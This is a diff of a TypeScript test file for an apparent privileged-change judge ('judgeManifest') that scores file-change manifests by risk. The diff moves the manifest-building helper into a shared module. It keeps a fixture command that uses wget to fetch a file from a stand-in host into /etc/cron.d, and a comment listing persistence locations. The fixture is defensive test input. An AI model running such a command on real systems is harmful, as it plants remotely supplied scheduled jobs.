@@ -3,39 +3,14 @@
 // its sourced settings, sshd's option files on RHEL and OpenRC, a container daemon's or the kubelet's API opened to
 // anyone, cron's mailer, neovim's system start-up, binfmt-support's formats, audisp's plugins, p11-kit's vendor
 // modules, Xorg's module paths, exim's includes, the automounter's program maps.
-import { createHash } from "node:crypto";
 import { describe, expect, it } from "vitest";
-import { Change, EntryKind, EntryState, Manifest } from "../../proto/gen/agent_sudo/v1/manifest_pb.js";
+import { type Step, stepsManifest } from "../../test/support/manifest-steps.js";
 import { judgeManifest } from "./manifest.js";
 
 const W = "wget -qO /etc/cron.d/y http://x.example/y";
 
-interface Step {
-  path: string;
-  content?: string;
-  link?: string;
-  mode?: number;
-}
-
 function tierOf(steps: Step[]): number {
-  const contents = new Map<string, Buffer>();
-  const changes = steps.map((s) => {
-    let after: EntryState;
-    if (s.link !== undefined) {
-      after = EntryState.create({ kind: EntryKind.ENTRY_KIND_SYMLINK, mode: 0o777, target: s.link });
-    } else {
-      const b = Buffer.from(s.content ?? "");
-      contents.set(s.path, b);
-      after = EntryState.create({
-        kind: EntryKind.ENTRY_KIND_FILE,
-        mode: s.mode ?? 0o644,
-        size: b.length,
-        sha256: createHash("sha256").update(b).digest(),
-      });
-    }
-    return Change.create({ path: s.path, before: EntryState.create({ kind: EntryKind.ENTRY_KIND_ABSENT }), after });
-  });
-  const manifest = Manifest.create({ requestId: "r51", commandDigest: Buffer.alloc(32), host: "server-01", changes });
+  const { manifest, contents } = stepsManifest(steps, "r51");
   return judgeManifest(manifest, contents, {
     host: "server-01",
     cwd: "/root",
